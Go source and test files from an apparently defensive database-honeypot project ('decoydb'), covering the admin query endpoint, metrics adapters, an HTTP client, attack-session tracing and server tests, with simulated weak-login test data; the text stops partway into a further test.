	// Approx is set when the merged unique/total counts are an upper
	// bound rather than exact: some collector's record page was cut by
	// the limit, so cross-collector overlap beyond the fetched pages
	// cannot be subtracted.
	Approx bool         `json:"approx,omitempty"`
	Peers  []PeerStatus `json:"peers"`
}

// QueryResponse is the /query payload. Tier is set only on responses
// merged across a collector tier (see FanIn).
type QueryResponse struct {
	Now         time.Time   `json:"now"`
	SnapshotAge string      `json:"snapshot_age"`
	Start       time.Time   `json:"start"`
	Days        int         `json:"days"`
	Events      int64       `json:"events"`
	Query       QueryParams `json:"query"`
	UniqueIPs   int         `json:"unique_ips"`
	Logins      int64       `json:"logins"`
	Creds       []CredRow   `json:"creds"`
	Total       int         `json:"total_records"`
	Offset      int         `json:"offset"`
	Records     []RecordRow `json:"records"`
	Tier        *TierInfo   `json:"tier,omitempty"`
}

// parseTier maps the ?tier= parameter onto evstore tiers.
func parseTier(s string) (evstore.Tier, error) {
	switch s {
	case "", "all":
		return evstore.AllTiers, nil
	case "low":
		return evstore.LowTier, nil
	case "mediumhigh", "medium-high", "medium", "high":
		return evstore.MediumHighTier, nil
	}
	return evstore.AllTiers, fmt.Errorf("unknown tier %q (want all, low, or mediumhigh)", s)
}

// intParam parses an integer query parameter with a default.
func intParam(r *http.Request, name string, def int) (int, error) {
	s := r.URL.Query().Get(name)
	if s == "" {
		return def, nil
	}
	v, err := strconv.Atoi(s)
	if err != nil {
		return 0, fmt.Errorf("bad %s=%q: not an integer", name, s)
	}
	return v, nil
}

// Respond runs the selection against the (cached) snapshot and renders
// the response — the HTTP-free core of the handler, shared by ServeHTTP
// and the tier fan-in. The error is a client error (bad tier).
func (h *QueryHandler) Respond(req QueryRequest) (QueryResponse, error) {
	tier, err := parseTier(req.Tier)
	if err != nil {
		return QueryResponse{}, err
	}
	limit, offset, creds := req.Limit, req.Offset, req.Creds
	if limit < 0 {
		limit = 0
	}
	if limit > h.opts.MaxLimit {
		limit = h.opts.MaxLimit
	}
	if offset < 0 {
		offset = 0
	}
	if creds < 0 {
		creds = 0
	}
	if creds > h.opts.MaxCreds {
		creds = h.opts.MaxCreds
	}

	q := evstore.Query{
		DBMS: req.DBMS,
		Tier: tier,
		Days: evstore.DayRange{From: req.From, To: req.To},
	}

	snap, built := h.snapshot(req.Fresh)

	matched := snap.Select(q)
	page := matched
	if offset > len(page) {
		page = nil
	} else {
		page = page[offset:]
	}
	if len(page) > limit {
		page = page[:limit]
	}
	records := make([]RecordRow, 0, len(page))
	for _, rec := range page {
		row := RecordRow{
			Addr:          rec.Addr.String(),
			Country:       rec.Country,
			ASN:           rec.ASN,
			ASName:        rec.ASName,
			Institutional: rec.Institutional,
			FirstSeen:     rec.FirstSeen,
			LastSeen:      rec.LastSeen,
			Verdict:       classify.IP(rec, q).String(),
		}
		var mask uint64
		for k, a := range rec.Per {
			if !q.MatchKey(k) {
				continue
			}
			row.Sessions += a.Sessions
			row.Logins += a.Logins
			row.LoginOK += a.LoginOK
			row.Commands += a.CommandsRun
			mask |= a.ActiveDays
		}
		for m := mask; m != 0; m &= m - 1 {
			row.ActiveDays++
		}
		records = append(records, row)
	}

	credCounts := snap.Creds(q)
	if len(credCounts) > creds {
		credCounts = credCounts[:creds]
	}
	credRows := make([]CredRow, 0, len(credCounts))
	for _, c := range credCounts {
		credRows = append(credRows, CredRow{DBMS: c.DBMS, User: c.User, Pass: c.Pass, Count: c.Count})
	}

	return QueryResponse{
		Now:         time.Now().UTC(),
		SnapshotAge: time.Since(built).Round(time.Millisecond).String(),
		Start:       snap.Start(),
		Days:        snap.Days(),
		Events:      snap.Events(),
		Query:       QueryParams{DBMS: q.DBMS, Tier: req.Tier, From: req.From, To: req.To},
		UniqueIPs:   len(matched),
		Logins:      snap.Logins(q),
		Creds:       credRows,
		Total:       len(matched),
		Offset:      offset,
		Records:     records,
	}, nil
}

// ServeHTTP implements http.Handler.
func (h *QueryHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	req, err := ParseQueryRequest(r)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	resp, err := h.Respond(req)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(w, resp)
}

// writeJSON renders v with indentation — these endpoints are read by
// humans with curl at 2am as often as by tooling.
func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}
