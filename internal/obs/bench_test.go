package obs

import (
	"fmt"
	"io"
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// BenchmarkBusIngestScrape measures the acceptance bound for the
// scrape-time adapter design: bus→store ingest throughput with no
// scraper versus with a scraper taking a full /metrics pass every
// 100ms — two orders of magnitude hotter than a real 15s Prometheus
// cadence, but slow enough that on a single-core runner the scrape CPU
// it steals from the ingest loop stays inside the 5% budget CI asserts
// via benchjson -maxratio.
func BenchmarkBusIngestScrape(b *testing.B) {
	for _, scrape := range []bool{false, true} {
		name := "scrape=off"
		if scrape {
			name = "scrape=on"
		}
		b.Run(name, func(b *testing.B) {
			benchBusIngest(b, scrape)
		})
	}
}

func benchBusIngest(b *testing.B, scrape bool) {
	const sources = 512
	hp := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
	events := make([]core.Event, sources)
	for i := range events {
		events[i] = core.Event{
			Time: traceStart.Add(time.Duration(i) * time.Second),
			Src:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)}), 40000),
			Honeypot: hp, Kind: core.EventLogin,
			User: "root", Pass: fmt.Sprintf("pw%d", i%16),
		}
	}

	store := evstore.New(traceStart, 20, nil)
	kinds := &bus.StatsSink{}
	eb := bus.New(bus.Options{Policy: bus.Block}, store, kinds)

	reg := NewRegistry()
	reg.Register(BusSource(eb))
	reg.Register(KindSource(kinds))
	reg.Register(StoreSource(store))

	stop := make(chan struct{})
	scraperDone := make(chan struct{})
	if scrape {
		go func() {
			defer close(scraperDone)
			tick := time.NewTicker(100 * time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case <-stop:
					return
				case <-tick.C:
					if err := reg.WriteMetrics(io.Discard); err != nil {
						b.Error(err)
						return
					}
				}
			}
		}()
	} else {
		close(scraperDone)
	}

	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		eb.Record(events[i%sources])
	}
	eb.Close()
	b.StopTimer()
	close(stop)
	<-scraperDone
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
