package obs

import (
	"context"
	"net/http"
	"strconv"

	"decoydb/internal/stream"
)

// Streaming-analysis surface of the admin plane: the scrape-time
// adapter for the online analyzer's counters, the /alerts and /clusters
// handlers, and the client decoders dbreport -live consumes. Like every
// other adapter here, the analyzer pays nothing until a scraper or an
// operator asks — Collect and the handlers take one Stats()/Alerts()/
// Clusters() snapshot per call.

// streamSource adapts *stream.Analyzer.
type streamSource struct{ a *stream.Analyzer }

// StreamSource wraps the online analyzer as a registry source named
// "stream".
func StreamSource(a *stream.Analyzer) Source { return streamSource{a} }

func (s streamSource) Name() string { return "stream" }

func (s streamSource) Status() any { return s.a.Stats() }

func (s streamSource) Collect(e *Emitter) {
	st := s.a.Stats()
	e.Counter("decoydb_stream_events_total", "Events folded into online per-source state.", float64(st.Events))
	e.Counter("decoydb_stream_batches_total", "Delivery batches settled by the analyzer.", float64(st.Batches))
	e.Gauge("decoydb_stream_sources", "Sources currently tracked in the LRU.", float64(st.Sources))
	e.Counter("decoydb_stream_evicted_total", "Sources evicted at the LRU bound.", float64(st.Evicted))
	e.Counter("decoydb_stream_assigns_total", "Cluster assignment passes over touched sources.", float64(st.Assigns))
	e.Gauge("decoydb_stream_clusters", "Live behaviour clusters (centroids).", float64(st.Clusters))
	e.Counter("decoydb_stream_refits_total", "Mini Ward re-fits over the centroid set.", float64(st.Refits))
	e.Counter("decoydb_stream_merged_total", "Centroids consolidated by re-fits.", float64(st.Merged))
	e.Counter("decoydb_stream_dropped_total", "Stale empty centroids garbage-collected by re-fits.", float64(st.Dropped))
	e.Counter("decoydb_stream_capped_total", "Assignments forced to a nearest centroid at the cluster cap.", float64(st.Capped))
	e.Gauge("decoydb_stream_vocab", "Distinct action tokens in the online vocabulary.", float64(st.Vocab))
	const name = "decoydb_stream_alerts_total"
	const help = "Transition alerts emitted, by kind."
	e.Counter(name, help, float64(st.Escalations), L("kind", stream.EscalationAlert.String()))
	e.Counter(name, help, float64(st.NewClusters), L("kind", stream.NewClusterAlert.String()))
	e.Counter(name, help, float64(st.Shifts), L("kind", stream.ClusterShiftAlert.String()))
}

func (s *Server) handleAlerts(w http.ResponseWriter, r *http.Request) {
	limit, err := intParam(r, "limit", 100)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(w, AlertsPage{
		Stats:  s.opts.Stream.Stats(),
		Alerts: s.opts.Stream.Alerts(limit),
	})
}

func (s *Server) handleClusters(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, ClustersPage{Clusters: s.opts.Stream.Clusters()})
}

// AlertsPage is the /alerts payload.
type AlertsPage struct {
	Stats  stream.Stats   `json:"stats"`
	Alerts []stream.Alert `json:"alerts"`
}

// ClustersPage is the /clusters payload, largest cluster first.
type ClustersPage struct {
	Clusters []stream.ClusterInfo `json:"clusters"`
}

// Alerts fetches /alerts from the admin plane (limit <= 0 asks for the
// server default).
func (c *Client) Alerts(ctx context.Context, limit int) (*AlertsPage, error) {
	path := "/alerts"
	if limit > 0 {
		path += "?limit=" + strconv.Itoa(limit)
	}
	var page AlertsPage
	if err := c.get(ctx, path, &page); err != nil {
		return nil, err
	}
	return &page, nil
}

// Clusters fetches /clusters from the admin plane.
func (c *Client) Clusters(ctx context.Context) (*ClustersPage, error) {
	var page ClustersPage
	if err := c.get(ctx, "/clusters", &page); err != nil {
		return nil, err
	}
	return &page, nil
}
