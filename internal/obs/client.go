package obs

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"decoydb/internal/relay"
)

// Client reads a collector's admin plane over HTTP: /query for the
// store-derived aggregates, /statusz for subsystem counters. It is the
// one place the admin wire schema is decoded — dbreport -live and the
// tier fan-in both go through it, so the JSON contract cannot drift
// between readers.
type Client struct {
	base string
	hc   *http.Client
}

// NewClient returns a client for the admin plane at addr (host:port, or
// a full http:// URL). timeout bounds each request; 0 means 10s.
func NewClient(addr string, timeout time.Duration) *Client {
	base := addr
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	if timeout <= 0 {
		timeout = 10 * time.Second
	}
	return &Client{base: strings.TrimRight(base, "/"), hc: &http.Client{Timeout: timeout}}
}

// Base returns the normalized base URL.
func (c *Client) Base() string { return c.base }

// get fetches base+path and decodes the JSON body into v.
func (c *Client) get(ctx context.Context, path string, v any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+path, nil)
	if err != nil {
		return err
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return fmt.Errorf("%s%s: %s: %s", c.base, path, resp.Status, strings.TrimSpace(string(body)))
	}
	return json.NewDecoder(resp.Body).Decode(v)
}

// Query runs a /query selection against the collector.
func (c *Client) Query(ctx context.Context, req QueryRequest) (*QueryResponse, error) {
	var resp QueryResponse
	if err := c.get(ctx, "/query?"+req.Values().Encode(), &resp); err != nil {
		return nil, err
	}
	return &resp, nil
}

// Statusz fetches /statusz as a map of source name to raw status, so a
// caller decodes only the sections it renders and the rest stay opaque.
func (c *Client) Statusz(ctx context.Context) (map[string]json.RawMessage, error) {
	var status map[string]json.RawMessage
	if err := c.get(ctx, "/statusz", &status); err != nil {
		return nil, err
	}
	return status, nil
}

// CollectorFromStatus decodes the "collector" section of a /statusz
// payload. ok is false when the plane has no collector section (a farm
// binary's admin plane, for instance).
func CollectorFromStatus(status map[string]json.RawMessage) (st relay.CollectorStats, ok bool, err error) {
	raw, present := status["collector"]
	if !present {
		return st, false, nil
	}
	if err := json.Unmarshal(raw, &st); err != nil {
		return st, true, fmt.Errorf("/statusz collector section: %w", err)
	}
	return st, true, nil
}
