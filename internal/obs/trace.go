package obs

import (
	"net/netip"
	"sort"
	"sync"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// Attack-session tracing. The store aggregates events into per-IP
// activity records for the paper's offline analyses; an operator
// watching a live deployment wants the orthogonal cut: what is this
// session doing *right now*, and what did the last few hundred sessions
// do. TraceRing keeps a bounded map of in-flight spans — one per
// (source, honeypot) pair — and a fixed ring of completed ones, each
// recording the session's phase transitions (banner → auth → query) and
// its classify verdict. It implements core.Sink/BatchSink, so it
// registers on the event bus (or behind the relay collector) like any
// other consumer and costs one mutex acquisition per delivery batch.

// Session phases, in escalation order. A session starts in "banner"
// (connected, nothing sent), moves to "auth" on a login attempt and to
// "query" on a command; it never moves backwards.
const (
	PhaseBanner = "banner"
	PhaseAuth   = "auth"
	PhaseQuery  = "query"
)

var phaseNames = [...]string{PhaseBanner, PhaseAuth, PhaseQuery}

// Transition records when a span entered a phase.
type Transition struct {
	Phase string    `json:"phase"`
	At    time.Time `json:"at"`
}

// Span is one traced attack session: a source's interaction with one
// honeypot from connect to close (End is zero while still active).
type Span struct {
	Src      string `json:"src"`
	DBMS     string `json:"dbms"`
	Honeypot string `json:"honeypot"`
	Tier     string `json:"tier"`

	Start time.Time `json:"start"`
	End   time.Time `json:"end,omitzero"`

	Phase       string       `json:"phase"`
	Transitions []Transition `json:"transitions"`

	Events      int    `json:"events"`
	Logins      int    `json:"logins"`
	LoginOK     int    `json:"login_ok"`
	Commands    int    `json:"commands"`
	LastCommand string `json:"last_command,omitempty"`

	// Verdict is the classify behaviour derived from the span's bounded
	// action sequence — scanning/scouting/exploiting, live-updated for
	// active spans.
	Verdict string `json:"verdict"`
	// Live is the source's current behaviour as the streaming analyzer
	// sees it — across all of the source's sessions, not just this span.
	// Only set on active spans, and only when the owning process wired
	// TraceOptions.Verdicts.
	Live string `json:"live_verdict,omitempty"`
}

// spanKey identifies an in-flight session.
type spanKey struct {
	src netip.AddrPort
	hp  string
}

// spanState is the mutable in-flight record behind a Span.
type spanState struct {
	key   spanKey
	info  core.Info
	start time.Time
	last  time.Time
	phase int // index into phaseNames
	trans []Transition

	events, logins, loginOK, commands int
	lastCommand                       string

	// act mirrors the span's logins/actions in the shape the classifier
	// consumes, with Actions bounded by TraceOptions.MaxActions.
	act evstore.Activity
}

// TraceOptions bounds the ring. The zero value gets defaults.
type TraceOptions struct {
	// MaxActive bounds in-flight spans; beyond it the oldest active span
	// is force-completed with an eviction mark. Default 4096.
	MaxActive int
	// Ring is the number of completed spans retained. Default 1024.
	Ring int
	// MaxActions bounds the per-span action sequence fed to the
	// classifier. Default 32.
	MaxActions int
	// Verdicts, when set, supplies a source's current streaming verdict
	// (typically stream.(*Analyzer).Verdict rendered as a string); it is
	// consulted only when an active span is snapshotted for /traces —
	// never on the record path — and fills Span.Live.
	Verdicts func(src netip.Addr) (string, bool)
}

func (o TraceOptions) withDefaults() TraceOptions {
	if o.MaxActive <= 0 {
		o.MaxActive = 4096
	}
	if o.Ring <= 0 {
		o.Ring = 1024
	}
	if o.MaxActions <= 0 {
		o.MaxActions = 32
	}
	return o
}

// TraceStats is the ring's own accounting.
type TraceStats struct {
	Active    int               `json:"active"`
	Completed uint64            `json:"completed"`
	Evicted   uint64            `json:"evicted"` // force-completed at MaxActive
	Verdicts  map[string]uint64 `json:"verdicts"`
}

// TraceRing traces attack sessions from the event stream. Safe for
// concurrent use; register it as a bus or collector sink and as a
// registry Source.
type TraceRing struct {
	opts TraceOptions

	mu     sync.Mutex
	active map[spanKey]*spanState
	order  []spanKey // arrival order, lazily compacted, for eviction
	done   []Span    // circular, next points at the oldest slot
	next   int
	filled int

	completed uint64
	evicted   uint64
	verdicts  [3]uint64 // by classify.Behavior
}

// NewTraceRing returns an empty ring.
func NewTraceRing(opts TraceOptions) *TraceRing {
	o := opts.withDefaults()
	return &TraceRing{
		opts:   o,
		active: make(map[spanKey]*spanState),
		done:   make([]Span, o.Ring),
	}
}

// Record implements core.Sink.
func (t *TraceRing) Record(e core.Event) {
	t.mu.Lock()
	t.record(e)
	t.mu.Unlock()
}

// RecordBatch implements core.BatchSink: one lock per delivery batch.
func (t *TraceRing) RecordBatch(events []core.Event) error {
	t.mu.Lock()
	for _, e := range events {
		t.record(e)
	}
	t.mu.Unlock()
	return nil
}

func (t *TraceRing) record(e core.Event) {
	key := spanKey{src: e.Src, hp: e.Honeypot.ID()}
	s := t.active[key]
	if s == nil {
		// A lone Close (span already evicted, or the process restarted
		// mid-session) carries nothing worth a new span.
		if e.Kind == core.EventClose {
			return
		}
		if len(t.active) >= t.opts.MaxActive {
			t.evictOldest()
		}
		s = &spanState{
			key:   key,
			info:  e.Honeypot,
			start: e.Time,
			trans: []Transition{{Phase: PhaseBanner, At: e.Time}},
		}
		t.active[key] = s
		t.order = append(t.order, key)
		t.compactOrder()
	}
	s.last = e.Time
	s.events++
	switch e.Kind {
	case core.EventLogin:
		s.logins++
		s.act.Logins++
		if e.OK {
			s.loginOK++
			s.act.LoginOK++
		}
		s.advance(PhaseAuth, e.Time)
	case core.EventCommand:
		s.commands++
		s.act.CommandsRun++
		s.lastCommand = e.Command
		if len(s.act.Actions) < t.opts.MaxActions {
			s.act.Actions = append(s.act.Actions, evstore.Action{Name: e.Command, Raw: e.Raw})
		}
		s.advance(PhaseQuery, e.Time)
	case core.EventClose:
		t.finalize(s, e.Time)
	}
}

// advance moves the span forward to the named phase; phases never
// regress (a login after commands is not a new auth phase).
func (s *spanState) advance(phase string, at time.Time) {
	for i, n := range phaseNames {
		if n == phase && i > s.phase {
			s.phase = i
			s.trans = append(s.trans, Transition{Phase: n, At: at})
		}
	}
}

// evictOldest force-completes the longest-lived active span.
func (t *TraceRing) evictOldest() {
	for len(t.order) > 0 {
		key := t.order[0]
		t.order = t.order[1:]
		if s := t.active[key]; s != nil {
			t.evicted++
			t.finalize(s, s.last)
			return
		}
	}
}

// compactOrder drops closed spans' stale keys once they dominate the
// arrival list, keeping it O(MaxActive).
func (t *TraceRing) compactOrder() {
	if len(t.order) < 4*t.opts.MaxActive {
		return
	}
	live := t.order[:0]
	for _, key := range t.order {
		if _, ok := t.active[key]; ok {
			live = append(live, key)
		}
	}
	t.order = live
}

// finalize moves a span into the completed ring.
func (t *TraceRing) finalize(s *spanState, end time.Time) {
	delete(t.active, s.key)
	sp := s.snapshot()
	sp.End = end
	v := classify.Activity(s.info.DBMS, &s.act)
	if int(v) >= 0 && int(v) < len(t.verdicts) {
		t.verdicts[v]++
	}
	t.done[t.next] = sp
	t.next = (t.next + 1) % len(t.done)
	if t.filled < len(t.done) {
		t.filled++
	}
	t.completed++
}

// snapshot renders the current state as a Span (verdict included).
func (s *spanState) snapshot() Span {
	return Span{
		Src:         s.key.src.String(),
		DBMS:        s.info.DBMS,
		Honeypot:    s.key.hp,
		Tier:        s.info.Level.String(),
		Start:       s.start,
		Phase:       phaseNames[s.phase],
		Transitions: append([]Transition(nil), s.trans...),
		Events:      s.events,
		Logins:      s.logins,
		LoginOK:     s.loginOK,
		Commands:    s.commands,
		LastCommand: s.lastCommand,
		Verdict:     classify.Activity(s.info.DBMS, &s.act).String(),
	}
}

// Active returns up to limit in-flight spans, newest first (limit <= 0
// means all). When TraceOptions.Verdicts is wired, each span also
// carries the source's live streaming verdict.
func (t *TraceRing) Active(limit int) []Span {
	t.mu.Lock()
	out := make([]Span, 0, len(t.active))
	addrs := make([]netip.Addr, 0, len(t.active))
	for _, s := range t.active {
		out = append(out, s.snapshot())
		addrs = append(addrs, s.key.src.Addr())
	}
	t.mu.Unlock()
	// The verdict feed locks the analyzer; consult it outside our own
	// mutex so the two sinks never hold both locks at once.
	if t.opts.Verdicts != nil {
		for i := range out {
			if v, ok := t.opts.Verdicts(addrs[i]); ok {
				out[i].Live = v
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if !out[i].Start.Equal(out[j].Start) {
			return out[i].Start.After(out[j].Start)
		}
		return out[i].Src < out[j].Src
	})
	if limit > 0 && len(out) > limit {
		out = out[:limit]
	}
	return out
}

// Recent returns up to limit completed spans, newest first (limit <= 0
// means all retained).
func (t *TraceRing) Recent(limit int) []Span {
	t.mu.Lock()
	defer t.mu.Unlock()
	n := t.filled
	if limit > 0 && limit < n {
		n = limit
	}
	out := make([]Span, 0, n)
	for i := 0; i < n; i++ {
		// next-1 is the newest filled slot.
		idx := (t.next - 1 - i + 2*len(t.done)) % len(t.done)
		out = append(out, t.done[idx])
	}
	return out
}

// Stats snapshots the ring's accounting.
func (t *TraceRing) Stats() TraceStats {
	t.mu.Lock()
	defer t.mu.Unlock()
	st := TraceStats{
		Active:    len(t.active),
		Completed: t.completed,
		Evicted:   t.evicted,
		Verdicts:  make(map[string]uint64, len(t.verdicts)),
	}
	for i, n := range t.verdicts {
		st.Verdicts[classify.Behavior(i).String()] = n
	}
	return st
}

// Name implements Source.
func (t *TraceRing) Name() string { return "traces" }

// Status implements Source.
func (t *TraceRing) Status() any { return t.Stats() }

// Collect implements Source.
func (t *TraceRing) Collect(e *Emitter) {
	st := t.Stats()
	e.Gauge("decoydb_traces_active", "In-flight attack-session spans.", float64(st.Active))
	e.Counter("decoydb_traces_completed_total", "Completed spans.", float64(st.Completed))
	e.Counter("decoydb_traces_evicted_total", "Spans force-completed at the active cap.", float64(st.Evicted))
	for _, name := range []string{"scanning", "scouting", "exploiting"} {
		e.Counter("decoydb_traces_verdict_total", "Completed spans by classify verdict.", float64(st.Verdicts[name]), L("verdict", name))
	}
}
