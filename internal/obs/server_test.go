package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// testStore builds a store with n sources: even sources hit a low-tier
// Redis trap (logins only), odd sources hit a medium Postgres honeypot
// (login + command).
func testStore(t *testing.T, n int) *evstore.Store {
	t.Helper()
	store := evstore.NewSharded(traceStart, 20, nil, 2)
	ingestSources(t, store, 0, n)
	return store
}

func ingestSources(t *testing.T, store *evstore.Store, from, to int) {
	t.Helper()
	low := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
	med := core.Info{DBMS: core.Postgres, Level: core.Medium, Group: core.GroupMedium, Config: core.ConfigDefault}
	var batch []core.Event
	for i := from; i < to; i++ {
		src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(i + 1)}), 40000)
		at := traceStart.Add(time.Duration(i%5) * 24 * time.Hour)
		if i%2 == 0 {
			batch = append(batch,
				core.Event{Time: at, Src: src, Honeypot: low, Kind: core.EventConnect},
				core.Event{Time: at, Src: src, Honeypot: low, Kind: core.EventLogin, User: "root", Pass: "123456"},
			)
		} else {
			batch = append(batch,
				core.Event{Time: at, Src: src, Honeypot: med, Kind: core.EventConnect},
				core.Event{Time: at, Src: src, Honeypot: med, Kind: core.EventLogin, User: "postgres", Pass: "postgres", OK: true},
				core.Event{Time: at, Src: src, Honeypot: med, Kind: core.EventCommand, Command: "SELECT VERSION"},
			)
		}
	}
	if err := store.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
}

func get(t *testing.T, srv *httptest.Server, path string) (int, string) {
	t.Helper()
	resp, err := srv.Client().Get(srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

// TestServerEndpoints round-trips every admin endpoint over HTTP.
func TestServerEndpoints(t *testing.T) {
	store := testStore(t, 6)
	reg := NewRegistry()
	reg.Register(StoreSource(store))
	tr := NewTraceRing(TraceOptions{})
	tr.Record(core.Event{
		Time: traceStart, Src: netip.MustParseAddrPort("203.0.113.1:40000"),
		Honeypot: core.Info{DBMS: core.Redis, Level: core.Low}, Kind: core.EventConnect,
	})
	s := NewServer(ServerOptions{
		Registry: reg,
		Traces:   tr,
		Query:    NewQueryHandler(QueryOptions{Store: store}),
	})
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()

	code, body := get(t, srv, "/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics: %d", code)
	}
	for _, want := range []string{
		"decoydb_store_events_total 15",
		"decoydb_store_sources 6",
		"decoydb_traces_active 1",
		"decoydb_admin_scrapes_total 1",
		"# TYPE decoydb_store_events_total counter",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	code, body = get(t, srv, "/healthz")
	if code != http.StatusOK || !strings.Contains(body, `"ok"`) {
		t.Errorf("/healthz: %d %s", code, body)
	}

	code, body = get(t, srv, "/statusz")
	if code != http.StatusOK {
		t.Fatalf("/statusz: %d", code)
	}
	var status map[string]any
	if err := json.Unmarshal([]byte(body), &status); err != nil {
		t.Fatalf("/statusz not JSON: %v", err)
	}
	for _, key := range []string{"store", "traces", "admin", "now"} {
		if _, ok := status[key]; !ok {
			t.Errorf("/statusz missing %q: %v", key, keys(status))
		}
	}

	code, body = get(t, srv, "/traces")
	if code != http.StatusOK || !strings.Contains(body, "203.0.113.1:40000") {
		t.Errorf("/traces: %d %s", code, body)
	}

	code, body = get(t, srv, "/debug/pprof/")
	if code != http.StatusOK || !strings.Contains(body, "goroutine") {
		t.Errorf("/debug/pprof/: %d", code)
	}

	if code, _ = get(t, srv, "/nosuch"); code != http.StatusNotFound {
		t.Errorf("/nosuch: %d, want 404", code)
	}
	code, body = get(t, srv, "/")
	if code != http.StatusOK || !strings.Contains(body, "/query") {
		t.Errorf("index: %d %s", code, body)
	}
}

func queryJSON(t *testing.T, srv *httptest.Server, params string) QueryResponse {
	t.Helper()
	code, body := get(t, srv, "/query?"+params)
	if code != http.StatusOK {
		t.Fatalf("/query?%s: %d %s", params, code, body)
	}
	var resp QueryResponse
	if err := json.Unmarshal([]byte(body), &resp); err != nil {
		t.Fatalf("/query?%s: bad JSON: %v", params, err)
	}
	return resp
}

// TestQueryEndpoint covers selection, pagination limits, and the
// fresh-snapshot path that lets counts advance under live ingest.
func TestQueryEndpoint(t *testing.T) {
	store := testStore(t, 5) // sources 0,2,4 low Redis; 1,3 medium Postgres
	s := NewServer(ServerOptions{
		Registry: NewRegistry(),
		Query:    NewQueryHandler(QueryOptions{Store: store, MaxLimit: 3}),
	})
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()

	resp := queryJSON(t, srv, "")
	if resp.Total != 5 || resp.UniqueIPs != 5 || len(resp.Records) != 3 {
		t.Fatalf("zero query: total=%d unique=%d records=%d, want 5/5/3 (MaxLimit caps the page)",
			resp.Total, resp.UniqueIPs, len(resp.Records))
	}
	if resp.Events != 12 {
		t.Errorf("events = %d, want 12", resp.Events)
	}

	// Tier filter: only the two Postgres sources are medium/high.
	resp = queryJSON(t, srv, "tier=mediumhigh")
	if resp.Total != 2 {
		t.Errorf("mediumhigh total = %d, want 2", resp.Total)
	}
	for _, r := range resp.Records {
		if r.Commands != 1 || r.LoginOK != 1 {
			t.Errorf("medium record %+v, want 1 command, 1 accepted login", r)
		}
		if r.Verdict != "scouting" {
			t.Errorf("verdict %q, want scouting (SELECT VERSION)", r.Verdict)
		}
	}

	// DBMS filter plus top-creds.
	resp = queryJSON(t, srv, "dbms="+core.Redis+"&creds=1")
	if resp.Total != 3 {
		t.Errorf("redis total = %d, want 3", resp.Total)
	}
	if len(resp.Creds) != 1 || resp.Creds[0].User != "root" || resp.Creds[0].Count != 3 {
		t.Errorf("creds = %+v, want root x3", resp.Creds)
	}
	if resp.Logins != 3 {
		t.Errorf("logins = %d, want 3", resp.Logins)
	}

	// Day-range filter: day 0 holds sources 0 (low) — i%5==0.
	resp = queryJSON(t, srv, "from=0&to=1")
	if resp.Total != 1 {
		t.Errorf("day-0 total = %d, want 1", resp.Total)
	}

	// Pagination: offset walks, limit caps at MaxLimit.
	resp = queryJSON(t, srv, "limit=2&offset=4")
	if resp.Total != 5 || len(resp.Records) != 1 || resp.Offset != 4 {
		t.Errorf("page: total=%d records=%d offset=%d, want 5/1/4", resp.Total, len(resp.Records), resp.Offset)
	}
	resp = queryJSON(t, srv, "limit=100")
	if len(resp.Records) != 3 {
		t.Errorf("limit=100 returned %d records, want MaxLimit=3", len(resp.Records))
	}
	resp = queryJSON(t, srv, "offset=99")
	if len(resp.Records) != 0 || resp.Total != 5 {
		t.Errorf("past-the-end offset: records=%d total=%d", len(resp.Records), resp.Total)
	}

	// Records come back in address order, so pages never overlap.
	page1 := queryJSON(t, srv, "limit=2&offset=0")
	page2 := queryJSON(t, srv, "limit=2&offset=2")
	if page1.Records[1].Addr >= page2.Records[0].Addr {
		t.Errorf("pages out of order: %q then %q", page1.Records[1].Addr, page2.Records[0].Addr)
	}

	// Bad parameters are 400s, not 500s.
	for _, p := range []string{"tier=bogus", "limit=x", "from=-1"} {
		if code, _ := get(t, srv, "/query?"+p); code != http.StatusBadRequest {
			t.Errorf("/query?%s: %d, want 400", p, code)
		}
	}

	// Live ingest: a fresh snapshot sees the new sources (the cached one
	// deliberately may not).
	ingestSources(t, store, 5, 8)
	resp = queryJSON(t, srv, "fresh=1")
	if resp.Total != 8 {
		t.Errorf("after ingest: total = %d, want 8", resp.Total)
	}
}

// TestServerStart binds a real listener on port 0 and scrapes it twice,
